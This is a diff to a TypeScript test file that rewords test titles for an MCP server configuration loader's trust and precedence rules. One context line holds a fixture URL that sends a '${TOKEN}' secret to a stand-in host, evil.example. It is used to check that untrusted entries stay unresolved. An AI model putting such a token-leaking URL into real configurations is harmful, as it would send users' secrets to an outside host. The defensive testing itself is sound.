@@ -43,7 +43,7 @@ test("P0: nearer files hide farther ones, and every server knows its file, line,
   ]);
 });
 
-test("P0: a file with a syntax error costs its own servers only", async () => {
+test("P0: a file with a syntax error affects only its own servers", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/.nexus/mcp.json", server("user"));
   await world.write("home/work/project/.mcp.json", "{ nonsense");
@@ -52,7 +52,7 @@ test("P0: a file with a syntax error costs its own servers only", async () => {
   expect(files.map(({ problem }) => problem?.code)).toEqual(["CONFIG_INVALID", undefined]);
 });
 
-test("P0: an explicit file stands alone and is trusted", async () => {
+test("P0: an explicit file is used alone and is trusted", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/.nexus/mcp.json", server("user"));
   await world.write("home/work/project/other.json", {
@@ -88,7 +88,7 @@ test("P0: the user's files are found at the places of each platform", () => {
   ]);
 });
 
-test("a user's file above the working folder stays the user's, also where the home folder is a link", async () => {
+test("a user's file above the working folder stays the user's, even if the home folder is a link", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/.nexus/mcp.json", server("user"));
   expect((await world.load()).files).toMatchObject([{ layer: "user", trusted: true }]);
@@ -98,7 +98,7 @@ test("a user's file above the working folder stays the user's, also where the ho
   ]);
 });
 
-test("project and ancestor files are not trusted until somebody says so, and again when their servers change", async () => {
+test("project and ancestor files are not trusted until the user trusts them, and again after a change", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/work/.mcp.json", { mcpServers: { up: { command: "u" } } });
   await world.write("home/work/project/.mcp.json", server("one"));
@@ -161,7 +161,7 @@ test.for([
   expect((await world.load()).servers[0]?.trusted).toBe(false);
 });
 
-test("P0: a file that is not trusted hides none of the user's servers, and is told apart", async () => {
+test("P0: an untrusted file hides none of the user's servers", async () => {
   await using world = await ConfigWorld.open();
   const user = await world.write("home/.nexus/mcp.json", server("user"));
   const project = await world.write("home/work/project/.mcp.json", server("project"));
@@ -181,7 +181,7 @@ test("P0: a file that is not trusted hides none of the user's servers, and is to
   expect(after.warnings).toEqual([]);
 });
 
-test("P0: a server that is not trusted takes no prefix from the user's servers, and switches none off", async () => {
+test("P0: an untrusted server takes no prefix from the user's servers, and disables none", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/.nexus/mcp.json", { mcpServers: { github: { command: "user", prefix: "gh" } } });
   const project = await world.write("home/work/project/.mcp.json", {
@@ -205,7 +205,7 @@ test("P0: a server that is not trusted takes no prefix from the user's servers, 
   expect(after.warnings).toEqual([]);
 });
 
-test("a changed default of an input asks for trust again: it may be part of a command", async () => {
+test("a changed default of an input requires trust again: it may be part of a command", async () => {
   await using world = await ConfigWorld.open();
   const write = (command: string) => {
     return world.write("home/work/project/.mcp.json", {
@@ -221,7 +221,7 @@ test("a changed default of an input asks for trust again: it may be part of a co
   expect((await world.load()).servers[0]?.trusted).toBe(false);
 });
 
-test("trust does not follow a link into another folder", async () => {
+test("trust does not apply to a link from another folder", async () => {
   await using world = await ConfigWorld.open();
   const file = await world.write("home/work/project/.mcp.json", server("node"));
   const [trusted] = (await world.load()).files;
@@ -232,7 +232,7 @@ test("trust does not follow a link into another folder", async () => {
   expect((await world.load({ cwd: hostile })).servers[0]?.trusted).toBe(false);
 });
 
-test("before trust nothing is looked up: the entry is shown as it was written", async () => {
+test("without trust nothing is resolved: the entry is shown as written", async () => {
   await using world = await ConfigWorld.open();
   await world.write("home/work/project/.mcp.json", {
     mcpServers: { a: { url: "https://evil.example/${TOKEN}" }, b: { command: "x", timeout: "${T}" }, c: {} },
@@ -258,7 +258,7 @@ test.skipIf(process.platform === "win32")(
   },
 );
 
-test("trust given and taken back by several processes at once is all kept", async () => {
+test("concurrent changes of trust by several processes are all kept", async () => {
   await using world = await ConfigWorld.open();
   const open = () => new FileTrustStore({ folder: join(world.root, "state"), platform: process.platform });
   await open().trust("/revoked", "1");
@@ -268,7 +268,7 @@ test("trust given and taken back by several processes at once is all kept", asyn
   expect(await open().isTrusted("/revoked", "1")).toBe(false);
 });
 
-test("P0: servers of a program are checked in the same way, and have no file", async () => {
+test("P0: servers from a program are checked in the same way, and have no file", async () => {
   await using world = await ConfigWorld.open();
   const options = world.options({ variables: { X: "1" } });
   const servers = await defineServers({ "My DB": { command: "db", env: { A: "${X}" } }, bad: {} }, options);
@@ -281,7 +281,7 @@ test("P0: servers of a program are checked in the same way, and have no file", a
   expect(listed).toMatchObject([{ id: "a", entry: { reach: { url: "http://127.0.0.1:1/mcp" } } }]);
 });
 
-test("an entry that starts Nexus itself is left out with a warning; one with a file of its own is a server like others", async () => {
+test("an entry that starts Nexus itself is left out with a warning; one with its own file is a normal server", async () => {
   await using world = await ConfigWorld.open();
   const nexus = { command: "nexus", args: ["serve", "--stdio"] };
   const other = { command: "nexus", args: ["serve", "--stdio", "--config", "/srv/mcp.json"] };
